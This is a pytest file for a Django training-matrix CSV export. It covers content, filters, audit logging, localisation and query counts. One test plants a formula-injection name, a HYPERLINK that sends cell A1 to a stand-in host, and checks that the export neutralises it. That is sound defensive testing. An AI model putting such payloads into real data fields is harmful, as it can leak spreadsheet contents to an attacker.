"""The CSV export of the training matrix: content, filters, spreadsheet safety and audit."""

import csv
import io

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

import pytest

from atmp_platform.audit.models import AuditEvent
from atmp_platform.audit.services import verify_chain

from ..factories import activate_totp, make_user
from .conftest import enrol
from .matrix_helpers import give, make_competencies, make_competency, make_scale

pytestmark = pytest.mark.django_db


def csv_url(cohort, language="en", query="") -> str:
    url = f"/{language}/trainer/cohorts/{cohort.pk}/matrix.csv"
    return f"{url}?{query}" if query else url


@pytest.fixture
def signed_in_trainer(client, trainer):
    activate_totp(trainer)
    client.force_login(trainer)
    return trainer


@pytest.fixture
def framework(db):
    make_scale()
    return {
        "c1": make_competency("c1", "GMP basics", order=1),
        "c3": make_competency("c3", "Aseptic gowning", order=3),
    }


@pytest.fixture
def people(cohort, framework):
    ann = make_user("Student", email="ann@example.org", full_name="Ann Current")
    bob = make_user("Student", email="bob@example.org", full_name="Bob Expiring")
    cas = make_user("Student", email="cas@example.org", full_name="Cas Expired")
    for person in (ann, bob, cas):
        enrol(person, cohort)
    give(ann, framework["c3"], 3, days_left=200)
    give(bob, framework["c3"], 2, days_left=10)
    give(cas, framework["c1"], 4, days_left=-5)
    return {"ann": ann, "bob": bob, "cas": cas}


def rows_of(response, delimiter: str = ",") -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


def day(days: int) -> str:
    return (timezone.localdate() + timezone.timedelta(days=days)).isoformat()


def test_the_export_has_a_row_per_student_and_a_column_per_competency(
    client, cohort, people, signed_in_trainer
):
    response = client.get(csv_url(cohort))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert rows_of(response) == [
        ["Student", "E-mail address", "c1 GMP basics", "c3 Aseptic gowning"],
        [
            "Ann Current",
            "ann@example.org",
            "Missing",
            f"3 Performs independently · Current · {day(200)}",
        ],
        [
            "Bob Expiring",
            "bob@example.org",
            "Missing",
            f"2 Performs under supervision · Expiring soon · {day(10)}",
        ],
        [
            "Cas Expired",
            "cas@example.org",
            f"4 Can teach others · Expired · {day(-5)}",
            "Missing",
        ],
    ]


def test_the_file_is_named_for_the_cohort_and_the_day(client, cohort, people, signed_in_trainer):
    disposition = client.get(csv_url(cohort))["Content-Disposition"]
    today = timezone.localdate().isoformat()
    assert disposition == (
        f'attachment; filename="training-matrix-atmp-102-najaar-2026-{today}.csv"'
    )


def test_the_export_follows_the_filters(client, cohort, people, signed_in_trainer):
    rows = rows_of(client.get(csv_url(cohort, query="state=expiring&competency=c3")))
    assert rows == [
        ["Student", "E-mail address", "c3 Aseptic gowning"],
        [
            "Bob Expiring",
            "bob@example.org",
            f"2 Performs under supervision · Expiring soon · {day(10)}",
        ],
    ]
    rows = rows_of(client.get(csv_url(cohort, query="q=cas")))
    assert [row[0] for row in rows[1:]] == ["Cas Expired"]


def test_a_competency_that_does_not_expire_says_so(client, cohort, people, signed_in_trainer):
    lasting = make_competency("c6", "Documentation", order=6, validity_months=None)
    give(people["ann"], lasting, 2, days_left=None)
    rows = rows_of(client.get(csv_url(cohort, query="competency=c6&q=ann")))
    assert rows[1][2] == "2 Performs under supervision · Current · does not expire"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_as_a_formula_are_defused(
    client, cohort, framework, signed_in_trainer, start
):
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    enrol(make_user("Student", email="evil@example.org", full_name=name), cohort)
    enrol(make_user("Student", email=f"{start.strip() or '-'}x@example.org"), cohort)
    rows = rows_of(client.get(csv_url(cohort)))
    by_email = {row[1]: row for row in rows[1:]}
    assert by_email["evil@example.org"][0] == f"'{name}"
    address = f"{start.strip() or '-'}x@example.org"
    assert f"'{address}" in by_email
    # Every other cell starts with a letter or a digit: the code, a level or a state.
    assert all(cell[:1].isalnum() for row in rows for cell in row[2:])


def test_each_export_is_recorded_in_the_audit_trail(client, cohort, people, signed_in_trainer):
    client.get(csv_url(cohort, query="state=expired"))
    event = AuditEvent.objects.get(action="matrix.exported")
    assert event.actor == signed_in_trainer
    assert event.object_type == "courses.cohort"
    assert event.object_id == str(cohort.pk)
    assert event.new_value["filters"] == {"state": "expired", "competency": "", "search": ""}
    assert event.new_value["students"] == 1
    assert event.new_value["competencies"] == ["c1", "c3"]
    assert verify_chain() is None


def test_bad_filters_send_the_trainer_back_to_the_matrix_without_an_export(
    client, cohort, people, signed_in_trainer
):
    response = client.get(csv_url(cohort, query="state=soon"))
    assert response.status_code == 302
    assert response["Location"] == f"/en/trainer/cohorts/{cohort.pk}/matrix/?state=soon"
    assert not AuditEvent.objects.filter(action="matrix.exported").exists()
    page = client.get(response["Location"])
    assert "“soon” is not a state the matrix can filter on" in page.text


def test_the_export_speaks_the_language_of_the_request(client, cohort, people, signed_in_trainer):
    rows = rows_of(client.get(csv_url(cohort, language="nl")), delimiter=";")
    with translation.override("nl"):
        assert rows[0][:2] == [
            translation.gettext("Student"),
            translation.gettext("E-mail address"),
        ]
        assert rows[1][2] == translation.gettext("Missing")


def test_the_matrix_links_to_the_export_with_its_filters(client, cohort, people, signed_in_trainer):
    html = client.get(f"/en/trainer/cohorts/{cohort.pk}/matrix/?state=expired&q=cas").text
    assert f'href="{csv_url(cohort)}?state=expired&amp;q=cas" download' in html


def export_queries(client, cohort) -> int:
    client.get(csv_url(cohort))
    with CaptureQueriesContext(connection) as queries:
        assert client.get(csv_url(cohort)).status_code == 200
    return len(queries.captured_queries)


def test_the_export_takes_the_same_queries_for_few_and_many_students(
    client, cohort, signed_in_trainer
):
    make_scale()
    competencies = make_competencies(2)
    enrol(make_user("Student", email="one@example.org"), cohort)
    small = export_queries(client, cohort)
    competencies += make_competencies(5, prefix="x")
    for number in range(15):
        person = make_user("Student", email=f"many{number}@example.org", verified=False)
        enrol(person, cohort)
        for index, competency in enumerate(competencies):
            give(person, competency, 1 + index % 4, days_left=number * 5 - 20)
    assert export_queries(client, cohort) == small
    # The matrix's reads (at most 15, as the page) and the audit trail's append.
    assert small <= 20


def test_the_dutch_export_is_split_on_semicolons_and_the_english_on_commas(
    client, cohort, people, signed_in_trainer
):
    """Excel in Dutch takes the semicolon as its list separator (the comma is the decimal
    separator there): a comma-separated file would open as one column."""
    dutch = client.get(csv_url(cohort, language="nl")).content.decode("utf-8-sig")
    english = client.get(csv_url(cohort)).content.decode("utf-8-sig")

    dutch_header, english_header = dutch.splitlines()[0], english.splitlines()[0]
    columns = 2 + len(rows_of(client.get(csv_url(cohort)))[0][2:])
    assert dutch_header.count(";") == columns - 1
    assert english_header.count(",") >= columns - 1
    assert len(rows_of(client.get(csv_url(cohort, language="nl")), delimiter=";")[0]) == columns
